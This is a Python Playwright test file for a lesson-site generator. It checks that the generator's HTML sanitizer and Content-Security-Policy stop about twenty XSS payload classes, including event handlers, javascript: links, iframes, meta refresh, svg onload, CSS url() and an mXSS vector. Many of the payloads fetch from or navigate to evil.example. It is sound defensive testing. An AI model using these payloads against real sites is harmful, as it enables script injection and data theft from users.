"""An allow_html lesson carrying every payload class, in Chromium: no script runs, nothing navigates, nothing leaves file://.

The lesson writes raw HTML of each kind that could run script, navigate or fetch (on* handlers,
javascript: links, iframes, inline script, meta refresh, base href, form action, svg onload,
style url(), ...), and its CSV labels carry a meta refresh and an onerror that the body inserts
with ``[[ evaluation.classes[...] ]]``. Each payload would set ``window.__pwned``, change
``document.title``, fetch or navigate to evil.example. The built page is opened as built and with
its Content-Security-Policy removed, so the sanitizer alone must hold. A control page holding
the same payloads unsanitized shows that each detector used here does see a payload that fires.

A second lesson's questions are named ``constructor``, ``hasOwnProperty`` and ``__proto__``: the
page's script keys answers by id, and those ids must be ordinary keys.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import urllib.parse
from pathlib import Path

import pytest
from playwright.sync_api import Error as PlaywrightError

from tests.conftest import tiny_front, write_lesson
from tests.site.test_site_images import png_bytes
from tests.test_browser import browser  # noqa: F401  (the shared chromium fixture: fails in CI, skips elsewhere)
from tracegen.cli import main
from tracegen.html.quiz import storage_key
from tracegen.html.sanitize import ALLOWED_TAGS
from tracegen.quiz import make_questions
from tracegen.spec import load_lesson
from tracegen.trace import Trace

LABELS = ('<meta http-equiv="refresh" content="0;url=https://evil.example/label">',
          "<img src=missing.png onerror=\"window.__pwned='label'; fetch('https://evil.example/label')\">")
PAYLOAD_HTML = """<p onmouseover="window.__pwned='hover'; document.title='pwned'">PAYLOAD-hover</p>
<img src="missing.png" onerror="window.__pwned='img'; fetch('https://evil.example/img')">
<a href="javascript:window.__pwned='js';document.title='pwned'">PAYLOAD-link</a>
<a href="  JaVa&#x09;ScRipt:window.__pwned='js2'">PAYLOAD-link-spelled</a>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<script>window.__pwned = 'script'; document.title = 'pwned'; fetch('https://evil.example/script');</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/meta">
<base href="https://evil.example/">
<form action="https://evil.example/form"><input name="q" autofocus onfocus="window.__pwned='focus'">
<button>PAYLOAD-submit</button></form>
<svg onload="window.__pwned='svg'; fetch('https://evil.example/svg')"><circle r="5"></circle></svg>
<p style="background-image: url(https://evil.example/style)">PAYLOAD-style</p>
<style>body { background-image: url(https://evil.example/css); }</style>
<link rel="stylesheet" href="https://evil.example/link.css">
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<img src="missing.png" srcset="https://evil.example/srcset.png 1x">
<video poster="https://evil.example/poster.png"></video>
<details open ontoggle="window.__pwned='toggle'"><summary>PAYLOAD-details</summary>d</details>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
"""
BODY = f"""Payload lesson: the classes are [[ evaluation.classes[0] ]] and [[ evaluation.classes[1] ]].

{PAYLOAD_HTML}
A Markdown paragraph with a handler, a style and a ping.
{{: onclick="window.__pwned='attr'" style="background:url(https://evil.example/a)" ping="https://evil.example/p" }}

[PAYLOAD-markdown-link](javascript:window.__pwned='md') and ![image](javascript:window.__pwned='image')
"""
FRONT = """title = "Payloads"
allow_html = true
epochs = 2
[dataset]
source = "csv"
path = "labels.csv"
target = "label"
[split]
seed = 3
"""
IDS = ("constructor", "hasOwnProperty", "__proto__")
ID_FRONT = tiny_front('title = "Ids"') + "".join(f"""
[[quiz.questions]]
id = "{qid}"
kind = "single"
prompt = "Question {qid}: does this run have [[ n_test ]] test rows?"
explanation = "The split left [[ n_test ]] rows for testing."
[[quiz.questions.options]]
text = "Yes, [[ n_test ]] ({qid})"
correct = true
feedback = "Right: the split printed it."
[[quiz.questions.options]]
text = "No, [[ n_train ]] ({qid})"
correct = false
feedback = "That is the train count."
misconception = "Reading the train count as the test count."
""" for qid in IDS)
# Runs before any page script, in every frame: setting window.__pwned or document.title is
# reported to the test at once, so a payload's effect is seen even if the page then navigates.
WATCH = """(() => {
    const report = what => window.reportEffect(what);
    Object.defineProperty(window, '__pwned', {configurable: true, get() { return undefined; },
                                              set(value) { report('__pwned=' + value); }});
    const title = Object.getOwnPropertyDescriptor(Document.prototype, 'title');
    Object.defineProperty(document, 'title', {configurable: true,
        get() { return title.get.call(document); },
        set(value) { report('title=' + value); title.set.call(document, value); }});
})();"""
ACT = """() => {
    for (const element of document.querySelectorAll('body *')) {
        if (!/^PAYLOAD-/.test(element.textContent.trim())) continue;
        element.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
        if (element.matches('a, button')) element.click();
    }
    for (const input of document.querySelectorAll('input[name=q]')) input.focus();
}"""


def write_labels_csv(folder: Path) -> None:
    """Write labels.csv: two numeric features and the two hostile class labels."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["f1", "f2", "label"])
    for i in range(60):
        writer.writerow([f"{i % 7}.5", str((i * 3) % 11), LABELS[i % 2]])
    (folder / "labels.csv").write_text(buffer.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The payload lesson and the ids lesson built into one site; returns (site, site without CSP)."""
    folder = tmp_path_factory.mktemp("hostile-html")
    write_labels_csv(folder)
    # A build refuses an image it cannot copy, so the payloads' missing.png is a real PNG beside the lesson;
    # the control page, at the site root, still finds none, so its onerror payloads fire.
    (folder / "missing.png").write_bytes(png_bytes())
    lessons = [write_lesson(folder, FRONT, BODY, name="payloads"),
               write_lesson(folder, ID_FRONT, "Ids lesson.\n", name="ids")]
    out = folder / "site"
    assert main(["build", *map(str, lessons), "--out", str(out), "--reproducible", "--no-cache", "--quiet"]) == 0
    copy = folder / "nocsp"
    shutil.copytree(out, copy)
    for page in copy.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        stripped = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        assert stripped != text
        page.write_text(stripped, encoding="utf-8")
    # The control: the same payloads, unsanitized, on a page with no CSP.
    labels = "".join(LABELS)
    (copy / "control.html").write_text(f"<!doctype html><html><head><title>control</title></head><body>"
                                       f"{labels}{PAYLOAD_HTML}</body></html>", encoding="utf-8")
    return out, copy


def run_payloads(browser, url: str) -> dict:  # noqa: F811
    """Open `url`, trigger every payload, wait for timers and refreshes; return what each detector saw."""
    context = browser.new_context()
    effects, requests, navigations, dialogs, errors = [], [], [], [], []
    context.expose_function("reportEffect", lambda what: effects.append(what))
    context.add_init_script(WATCH)
    context.on("request", lambda request: (requests.append(request.url), request.is_navigation_request()
                                           and request.frame == page.main_frame and navigations.append(request.url)))
    # Anything outside file:// is recorded, then aborted (offline runs must not wait on DNS).
    context.route(re.compile(r"^(?!file:)"), lambda route: route.abort())
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    tags, attributes, text = [], [], ""
    try:
        page.goto(url)
        page.evaluate(ACT)
        page.wait_for_timeout(1500)  # a 0-second meta refresh and any onload or fetch have long fired
        tags = page.evaluate("() => Array.from(document.querySelectorAll('.prose.insight *'), e => e.localName)")
        attributes = page.evaluate("""() => Array.from(document.querySelectorAll('.prose.insight *'))
            .flatMap(e => Array.from(e.attributes, a => a.name))""")
        text = page.locator("body").inner_text()
    except PlaywrightError as exc:  # the page navigated away under the test: the navigation is recorded
        errors.append(f"test could not read the page: {exc}")
    finally:
        context.close()
    return {"effects": effects, "outside": [u for u in requests if urllib.parse.urlsplit(u).scheme != "file"],
            "navigations": [u for u in navigations if u != url], "dialogs": dialogs, "errors": errors,
            "tags": set(tags), "attributes": set(attributes), "text": text}


def test_the_detectors_see_the_payloads_fire_on_an_unsanitized_page(browser, built):  # noqa: F811
    """Control: without the sanitizer and the CSP the payloads run script, fetch off-site and navigate."""
    _, without_csp = built
    seen = run_payloads(browser, (without_csp / "control.html").as_uri())
    assert any(effect.startswith("__pwned=") for effect in seen["effects"]), seen["effects"]
    assert "title=pwned" in seen["effects"]
    assert any("evil.example" in url for url in seen["outside"])
    assert any("evil.example" in url for url in seen["navigations"]), seen["navigations"]


@pytest.mark.parametrize("csp", ["as built", "removed"])
def test_no_payload_runs_navigates_or_requests(browser, built, csp):  # noqa: F811
    """On the built page, with or without its CSP: no script effect, no navigation, no request outside file://."""
    site = built[0] if csp == "as built" else built[1]
    seen = run_payloads(browser, (site / "payloads" / "index.html").as_uri())
    assert (seen["effects"], seen["outside"], seen["navigations"]) == ([], [], [])
    assert (seen["dialogs"], seen["errors"]) == ([], [])
    assert seen["tags"] <= ALLOWED_TAGS, seen["tags"] - ALLOWED_TAGS
    assert not {name for name in seen["attributes"] if name.startswith("on") or name in ("style", "ping")}
    for label in LABELS:  # the labels the body inserts read as the text they are
        assert label in seen["text"]
    assert "PAYLOAD-hover" in seen["text"] and "PAYLOAD-markdown-link" in seen["text"]


@pytest.fixture
def ids_page(browser, built):  # noqa: F811
    """A fresh context on the ids lesson; yields (page, script errors, questions, storage key)."""
    site, _ = built
    trace = Trace.from_json((site / "ids" / "trace.json").read_text(encoding="utf-8"))
    questions = make_questions(load_lesson(site.parent / "ids.md"), trace)
    assert {q.id for q in questions} >= set(IDS)
    context = browser.new_context()
    context.route(re.compile(r"^(?!file:)"), lambda route: route.abort())
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda m: m.type == "error" and errors.append(m.text))
    page.goto((site / "ids" / "index.html").as_uri())
    yield page, errors, questions, storage_key(trace)
    context.close()


def test_question_ids_named_like_object_properties_save_and_restore(ids_page, built):
    """Answers to 'constructor', 'hasOwnProperty' and '__proto__' are checked, saved, restored and counted."""
    page, errors, questions, key = ids_page
    total, answered = len(questions), [(n, q) for n, q in enumerate(questions, start=1) if q.id in IDS]
    assert page.locator("#quiz-progress").inner_text() == f"0 of {total} answered"
    for number, question in answered:
        form = page.locator(f"#q{number}")
        form.locator(f"input[value='{question.correct_indices[0]}']").check()
        form.get_by_role("button", name="Check answer").click()
        assert "✓ Correct" in form.locator(".feedback").inner_text(), question.id
    saved = json.loads(page.evaluate("k => localStorage.getItem(k)", key))
    assert sorted(saved["answers"]) == sorted(IDS)
    page.reload()
    assert not page.locator("#quiz-notice").is_visible()
    assert page.locator("#quiz-progress").inner_text() == \
        f"3 of {total} answered · first attempt 3/{total} · final 3/{total}"
    for number, question in answered:
        assert page.locator(f"#q{number} input[value='{question.correct_indices[0]}']").is_checked(), question.id
    page.goto((built[0] / "index.html").as_uri())
    assert page.locator("#site-progress-text").inner_text().startswith("3 of ")
    assert " · first attempt 3/" in page.locator("#site-progress-text").inner_text()
    assert not page.locator("#progress-notice").is_visible()
    assert errors == []
